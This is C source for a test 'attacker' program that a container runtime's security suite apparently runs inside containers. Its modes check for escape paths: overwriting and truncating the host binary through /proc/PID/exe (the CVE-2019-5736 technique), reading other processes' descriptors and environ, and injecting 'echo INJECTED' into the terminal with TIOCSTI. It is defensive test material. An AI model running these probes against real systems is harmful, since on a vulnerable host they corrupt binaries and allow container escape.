/* The attacker the security suite puts inside containers (see exe_seal.rs). Each
 * mode tries one way out and prints what it reached as `key=value` lines; the tests
 * decide what that means. Static, so it runs in a busybox rootfs. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif

/* What the descriptor of /proc/PID/exe reaches: the file's identity, its seals, and
 * whether it can be written (reopened read-write through /proc/self/fd, as the
 * CVE-2019-5736 exploit does) or truncated. */
static void try_exe(int pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    char link[256] = {0};
    ssize_t n = readlink(path, link, sizeof link - 1);
    printf("readlink=%s\n", n < 0 ? strerror(errno) : link);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("open=%s\n", strerror(errno));
        return;
    }
    struct stat st;
    fstat(fd, &st);
    printf("open=ok\ndev=%lu\nino=%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
    printf("seals=%d\n", fcntl(fd, F_GET_SEALS));
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    int w = open(self, O_RDWR | O_CLOEXEC);
    if (w < 0) {
        printf("reopen_rw=%s\n", strerror(errno));
    } else {
        printf("reopen_rw=ok\n");
        ssize_t k = pwrite(w, "\x7f" "EVIL", 5, 0);
        printf("write=%s\n", k < 0 ? strerror(errno) : "ok");
        printf("truncate=%s\n", ftruncate(w, 0) < 0 ? strerror(errno) : "ok");
    }
}

/* Whether /proc/PID/{fd,environ} can be read. */
static void try_proc(int pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    if (!d) {
        printf("fd_dir=%s\n", strerror(errno));
    } else {
        int count = 0, links = 0, err = 0;
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.')
                continue;
            count++;
            char link[300], target[256];
            snprintf(link, sizeof link, "/proc/%d/fd/%s", pid, e->d_name);
            if (readlink(link, target, sizeof target - 1) >= 0)
                links++;
            else
                err = errno;
        }
        closedir(d);
        printf("fd_dir=ok\nfd_count=%d\n", count);
        printf("fd_links=%s\n", links ? "ok" : strerror(err));
    }
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY);
    printf("environ=%s\n", fd < 0 ? strerror(errno) : "ok");
}

/* The pid of a process other than us whose command line contains `needle`. */
static int find(const char *needle, int timeout_ms) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid())
                continue;
            char path[64], buf[4096];
            snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
            int fd = open(path, O_RDONLY);
            if (fd < 0)
                continue;
            ssize_t n = read(fd, buf, sizeof buf - 1);
            close(fd);
            for (ssize_t i = 0; i < n; i++)
                if (buf[i] == 0)
                    buf[i] = ' ';
            buf[n > 0 ? n : 0] = 0;
            if (strstr(buf, needle)) {
                closedir(d);
                return pid;
            }
        }
        if (d)
            closedir(d);
        clock_gettime(CLOCK_MONOTONIC, &now);
        if ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 > timeout_ms)
            return -1;
        usleep(1000);
    }
}

/* Every descriptor of every other process that can be seen, as `fd=PID:N:TARGET`
 * lines, scanned over and over for `ms` milliseconds: what a process entering the
 * container carries in. */
static void watch_fds(int ms) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        if ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 > ms)
            break;
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid())
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/fd", pid);
            DIR *fds = opendir(path);
            struct dirent *f;
            while (fds && (f = readdir(fds))) {
                if (f->d_name[0] == '.')
                    continue;
                char link[300], target[256] = {0};
                snprintf(link, sizeof link, "/proc/%d/fd/%s", pid, f->d_name);
                if (readlink(link, target, sizeof target - 1) > 0)
                    printf("fd=%d:%s:%s\n", pid, f->d_name, target);
            }
            if (fds)
                closedir(fds);
        }
        if (d)
            closedir(d);
        fflush(stdout);
    }
}

/* What a process can do with the terminal it was started from: is stdin one, can
 * /dev/tty (its controlling terminal) be opened, and does TIOCSTI push input into
 * it. */
static void try_tty(void) {
    printf("stdin_tty=%d\n", isatty(0));
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
    printf("dev_tty=%s\n", fd < 0 ? strerror(errno) : "ok");
    const char *cmd = "echo INJECTED\n";
    int targets[2] = {0, fd};
    for (int t = 0; t < 2; t++) {
        if (targets[t] < 0)
            continue;
        int ok = 1;
        for (const char *c = cmd; *c; c++)
            if (ioctl(targets[t], TIOCSTI, c) < 0) {
                printf("tiocsti_%d=%s\n", t, strerror(errno));
                ok = 0;
                break;
            }
        if (ok)
            printf("tiocsti_%d=ok\n", t);
    }
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 3 && !strcmp(argv[1], "exe")) {
        try_exe(atoi(argv[2]));
    } else if (argc >= 3 && !strcmp(argv[1], "proc")) {
        try_proc(atoi(argv[2]));
    } else if (argc >= 4 && !strcmp(argv[1], "find-exe")) {
        int pid = find(argv[2], atoi(argv[3]));
        printf("found=%d\n", pid);
        if (pid > 0)
            try_exe(pid);
    } else if (argc >= 3 && !strcmp(argv[1], "watch-fds")) {
        watch_fds(atoi(argv[2]));
    } else if (argc >= 2 && !strcmp(argv[1], "tty")) {
        try_tty();
    } else {
        fprintf(stderr, "usage: attacker exe PID | proc PID | find-exe TEXT MS | watch-fds MS | tty\n");
        return 2;
    }
    return 0;
}
